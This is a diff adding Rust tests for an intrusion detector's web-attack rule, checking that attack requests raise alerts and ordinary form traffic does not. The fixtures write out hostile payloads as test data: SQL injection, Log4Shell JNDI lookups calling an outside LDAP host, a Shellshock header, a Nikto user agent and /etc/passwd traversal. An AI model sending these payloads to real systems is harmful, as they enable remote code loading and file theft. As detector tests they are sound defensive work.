@@ -1,0 +1,97 @@
+//! Do requests of attackers fire, and those of browsers not?
+
+use super::super::testing::{Bench, inside, outside, record};
+use super::*;
+
+fn get(n: u64, seconds: f64, uri: &str, status: u16) -> RecordFact {
+    request(n, seconds, HttpTransaction { status_code: Some(status), ..asked(uri) })
+}
+
+fn asked(uri: &str) -> HttpTransaction {
+    HttpTransaction {
+        method: Some("GET".into()),
+        uri: Some(uri.into()),
+        host: Some("shop.example".into()),
+        user_agent: Some("Mozilla/5.0 (X11; Linux x86_64)".into()),
+        ..HttpTransaction::default()
+    }
+}
+
+fn request(n: u64, seconds: f64, tx: HttpTransaction) -> RecordFact {
+    record(n, seconds, outside(6), inside(1), 80, tx)
+}
+
+#[test]
+fn many_requests_are_one_row_with_examples() {
+    let all = (0..9).map(|n| get(n, n as f64, &format!("/i?id={n}%27+UNION+SELECT+user()%23"), 200));
+    let found = Bench::new(&META).records(all).end();
+    let [a] = &found[..] else { panic!("{found:?}") };
+    assert_eq!((a.kind.name, a.severity.name(), a.count), ("web_attack", "medium", 9));
+    assert_eq!(a.title, "203.0.113.6 sends 9 requests with SQL injection to 10.0.0.1:80 (shop.example)");
+    assert!(a.details["examples"][0].as_str().unwrap().contains("0' union select user()"), "{:?}", a.details);
+    assert_eq!(a.direction.as_deref(), Some("inbound"));
+}
+
+#[test]
+fn log4shell_is_found_wherever_it_hides() {
+    let hidden = "${${lower:j}ndi:ldap://203.0.113.6:1389/a}";
+    let mut agent = asked("/");
+    agent.user_agent = Some(hidden.into());
+    let mut header = asked("/");
+    header.odd_headers.push(("x-api-version".into(), hidden.into()));
+    let mut body = asked("/login");
+    body.request.head = format!("user={hidden}&x=1").into_bytes();
+    let target = asked("/?q=%24%7Bjndi%3Aldap%3A%2F%2Fh%2Fa%7D");
+    for tx in [agent, header, body, target] {
+        let found = Bench::new(&META).records([request(1, 0.0, tx)]).end();
+        assert!(found.len() == 1 && found[0].kind.name == "exploit_attempt", "{found:?}");
+        assert!(found[0].title.contains("Log4Shell") && found[0].severity.name() == "high");
+    }
+}
+
+#[test]
+fn shellshock_is_found_in_a_header() {
+    let mut tx = asked("/cgi-bin/status");
+    tx.user_agent = Some("() { :;}; /bin/ping -c 3 10.0.0.9".into());
+    assert_eq!(Bench::new(&META).records([request(1, 0.0, tx)]).kinds(), ["exploit_attempt"]);
+}
+
+#[test]
+fn a_tool_is_known_by_its_name() {
+    let mut tx = asked("/");
+    tx.user_agent = Some("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:map_codes)".into());
+    let found = Bench::new(&META).records([request(1, 0.0, tx)]).end();
+    assert!(found[0].title.contains("the attack tool Nikto"), "{found:?}");
+}
+
+#[test]
+fn a_list_of_paths_is_found_and_a_broken_page_is_not() {
+    let list = |n: u64| (0..n).map(|i| get(i, i as f64 / 4.0, &format!("/dir{i}?x={i}"), 404));
+    let found = Bench::new(&META).records(list(200)).end();
+    assert!(found.len() == 1 && found[0].reasons[0].value >= 40.0, "{found:?}");
+    assert!(Bench::new(&META).records(list(39)).end().is_empty());
+    let same = (0..200).map(|i| get(i, i as f64 / 4.0, &format!("/favicon.ico?{i}"), 404));
+    assert!(Bench::new(&META).records(same).end().is_empty());
+    let slow = (0..200).map(|i| get(i, i as f64 * 5.0, &format!("/dir{i}"), 404));
+    assert!(Bench::new(&META).records(slow).end().is_empty());
+}
+
+#[test]
+fn an_honest_form_is_silent() {
+    let mut tx = asked("/comment?id=it%27s");
+    tx.request.head =
+        b"text=I+don%27t+know+%3Cb%3Ewhy%3C%2Fb%3E+50%25+and+more%3B+sleep+well&mail=a%40b.c".to_vec();
+    tx.odd_headers.push(("cookie".into(), "a=%7B%22x%22%3A1%7D; b='q'; c=1|2".into()));
+    assert!(Bench::new(&META).records([request(1, 0.0, tx)]).end().is_empty());
+}
+
+#[test]
+fn a_crowd_of_attackers_stays_inside_the_cap() {
+    let mut bench = Bench::new(&META);
+    bench.records((0..MAX_ATTACKS as u32 * 2).map(|n| {
+        let [_, _, a, b] = n.to_be_bytes();
+        record(n.into(), 0.0, Ip::v4([100, 64, a, b]), inside(1), 80, asked("/?f=../../../etc/passwd"))
+    }));
+    assert!(bench.detector.evicted() > 0);
+    assert_eq!(bench.end().len(), 512, "as many as one detector may have open");
+}
